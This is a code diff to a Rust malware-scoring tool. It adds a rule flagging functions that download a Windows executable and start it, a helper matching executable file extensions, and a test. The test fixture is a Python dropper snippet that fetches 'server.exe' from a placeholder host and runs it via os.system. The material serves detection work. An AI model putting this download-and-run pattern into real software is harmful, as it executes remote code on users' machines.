@@ -125,6 +125,11 @@ pub const COMBINATIONS: &[Combination] = &[
         weight: 0.45,
     },
     Combination {
+        id: "combo:executable-fetched-and-run",
+        description: "one function downloads a Windows executable from a fixed URL and starts a process",
+        weight: 0.6,
+    },
+    Combination {
         id: "combo:stolen-to-endpoint",
         description: "stealer-target access and an exfiltration endpoint in the same file",
         weight: 0.5,
@@ -230,6 +235,30 @@ fn combination_evidence<'f>(
             let run = strongest(findings, runs)?;
             Some((url, run))
         }
+        "combo:executable-fetched-and-run" => {
+            // Together in one function body the download and the start are one act, whoever
+            // calls it: `r = get(URL.exe); open(p, 'wb').write(r.content); os.system(p)`.
+            let url = strongest(findings, |f| {
+                f.rule == "WH160"
+                    && f.message.contains("executable")
+                    && f.context != ExecContext::TestOrDocs
+                    && f.scope != 0
+                    && findings.iter().any(|r| {
+                        r.rule == "WH120" && r.scope == f.scope && r.path == f.path
+                    })
+                    // The fetch itself targets the executable, not a page listing installers.
+                    && findings.iter().any(|r| {
+                        r.has_tag("net-fetch")
+                            && r.scope == f.scope
+                            && r.path == f.path
+                            && names_executable(&r.message)
+                    })
+            })?;
+            let run = strongest(findings, |r| {
+                r.rule == "WH120" && r.scope == url.scope && r.path == url.path
+            })?;
+            Some((url, run))
+        }
         "combo:stolen-to-endpoint" => {
             let steal = strongest(findings, |f| {
                 f.has_tag("stealer-target") && f.context != ExecContext::TestOrDocs
@@ -239,6 +268,14 @@ fn combination_evidence<'f>(
         }
         _ => None,
     }
+}
+
+/// True when a message names a Windows executable or script file.
+fn names_executable(message: &str) -> bool {
+    let lower = message.to_ascii_lowercase();
+    [".exe", ".scr", ".msi", ".bat", ".ps1", ".vbs", ".hta"]
+        .iter()
+        .any(|ext| lower.contains(ext))
 }
 
 /// Scores one analysed file.
@@ -401,6 +438,27 @@ mod tests {
             s.contributions
                 .iter()
                 .any(|c| c.rule == "combo:hook-with-payload")
+        );
+    }
+
+    #[test]
+    fn a_function_that_downloads_and_starts_an_executable_is_malicious() {
+        let code = "import os, requests\ndef close():\n    url = 'https://example.invalid/files/server.exe'\n    r = requests.get(url)\n    with open('C://k//server.exe', 'wb') as f:\n        f.write(r.content)\n    os.system('start C://k//server.exe')\n";
+        let s = score("x-1/x/main.py", code);
+        assert!(s.malware >= 0.7, "{s:?}");
+        assert!(
+            s.contributions
+                .iter()
+                .any(|c| c.rule == "combo:executable-fetched-and-run")
+        );
+        // An installer URL named in one function and a process started in another is not it.
+        let apart = "import os, requests\nURL = 'https://example.invalid/files/server.exe'\ndef fetch():\n    return requests.get(URL)\ndef run(cmd):\n    os.system(cmd)\n";
+        let s = score("x-1/x/main.py", apart);
+        assert!(
+            !s.contributions
+                .iter()
+                .any(|c| c.rule == "combo:executable-fetched-and-run"),
+            "{s:?}"
         );
     }
 
